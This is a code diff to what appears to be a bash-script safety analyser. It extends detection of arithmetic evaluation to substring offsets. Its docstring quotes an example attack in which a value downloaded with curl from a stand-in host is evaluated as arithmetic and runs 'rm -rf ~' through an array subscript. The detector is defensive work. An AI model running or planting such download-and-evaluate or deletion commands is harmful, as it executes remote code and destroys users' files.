@@ -2,10 +2,11 @@
 them as arithmetic.
 
 bash evaluates a variable named in arithmetic (``$((x))``, ``((x))``, ``let x``, ``[[ x -gt 0
-]]``, an array index) as an expression in turn, and expands what a subscript in it holds:
-``x=$(curl -s evil.example/x); echo $((x))`` runs whatever the download spells as
-``a[$(rm -rf ~)]``. A value known on the line is judged as bash evaluates it (:mod:`.parse`);
-one decided at run time is told here, and arithmetic that names one is ``unknown``.
+]]``, an array index, a substring's offset ``${y:x}``) as an expression in turn, and expands
+what a subscript in it holds: ``x=$(curl -s evil.example/x); echo $((x))`` runs whatever the
+download spells as ``a[$(rm -rf ~)]``. A value known on the line is judged as bash evaluates
+it (:mod:`.parse`); one decided at run time is told here, and arithmetic that names one is
+``unknown``.
 
 Run-time text is what a command substitution prints (unless the command only ever prints a
 number: ``$(wc -l < f)``, ``$(seq 3)``), what ``read``, ``printf -v``, ``mapfile`` and
@@ -29,7 +30,8 @@ ANY = "*"
 # Lines that may both fill a variable at run time and evaluate one as arithmetic: the others
 # need no look (the tree walk is skipped for them).
 _FILLS = re.compile(r"\$\(|`|\b(?:read|printf|mapfile|readarray|for|export|declare)\b")
-_EVALUATES = re.compile(r"\(\(|\$\[|\[|\blet\b|-(?:eq|ne|lt|le|gt|ge)\b")
+# (``${y:x}``: a substring's offset and length are arithmetic too.)
+_EVALUATES = re.compile(r"\(\(|\$\[|\[|\blet\b|-(?:eq|ne|lt|le|gt|ge)\b|\$\{[^}]*:(?![-=+?])")
 
 # Builtins that store run-time text in the variables they name.
 _STORES = frozenset({"read", "mapfile", "readarray"})
